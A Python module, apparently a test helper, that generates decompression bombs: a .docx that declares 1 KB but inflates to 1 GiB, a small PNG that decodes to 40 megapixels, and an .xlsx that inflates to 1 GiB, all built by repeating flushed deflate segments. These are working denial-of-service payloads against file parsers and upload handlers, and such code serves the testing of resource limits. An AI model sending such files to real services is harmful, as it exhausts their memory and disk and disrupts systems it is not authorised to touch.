"""Decompression bombs built in small form and in a few milliseconds.

Deflate output for a long run of zeros is made once for 1 MiB and repeated: each copy ends with
a full flush, so it refers to nothing before it, and the copies together are a valid deflate
stream of N MiB (1 GiB is about 1 MB packed), without ever holding or compressing the whole.
"""

from __future__ import annotations

import struct
import zlib

MIB = 1024 * 1024
_SEGMENT: bytes | None = None


def deflated_zeros(mebibytes: int) -> bytes:
    """Raw deflate data that inflates to `mebibytes` MiB of zero bytes."""
    global _SEGMENT
    if _SEGMENT is None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        _SEGMENT = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return _SEGMENT * mebibytes + b"\x03\x00"  # an empty final block


def zip_file(members: list[tuple[str, bytes, int]]) -> bytes:
    """A ZIP whose members are (name, raw deflate data, declared inflated size): the declared
    size is written in both the local header and the central directory, whatever the data
    really inflates to."""
    body = bytearray()
    directory = bytearray()
    for name, packed, declared in members:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x21,
            0,
            len(packed),
            declared,
            len(encoded),
            0,
        )
        body += encoded + packed
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            0,
            len(packed),
            declared,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += encoded
    end = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        len(members),
        len(members),
        len(directory),
        len(body),
        0,
    )
    return bytes(body + directory + end)


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def honest(name: str, data: bytes) -> tuple[str, bytes, int]:
    return name, _deflate(data), len(data)


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
    b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)


def docx_bomb(*, declared: int = 1024, mebibytes: int = 1024) -> bytes:
    """A ~1 MB .docx whose document part declares `declared` bytes and inflates to 1 GiB."""
    return zip_file(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            ("word/document.xml", deflated_zeros(mebibytes), declared),
        ]
    )


def png_bomb(width: int = 8000, height: int = 5000) -> bytes:
    """A 40-megapixel RGB PNG of about 170 KB (every row black), built without compressing
    120 MB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    # One row (filter byte and zeros) deflated and fully flushed, repeated for every row, in a
    # zlib wrapper; the Adler-32 of n zero bytes is (n mod 65521) << 16 | 1.
    row = bytes(1 + width * 3)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    segment = compressor.compress(row) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = ((len(row) * height) % 65521) << 16 | 1
    pixels = b"\x78\xda" + segment * height + b"\x03\x00" + struct.pack(">I", checksum)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def workbook_bomb(mebibytes: int = 1024) -> bytes:
    """An .xlsx whose first worksheet declares its size honestly and inflates to 1 GiB."""
    return zip_file(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            ("xl/worksheets/sheet1.xml", deflated_zeros(mebibytes), mebibytes * MIB),
        ]
    )
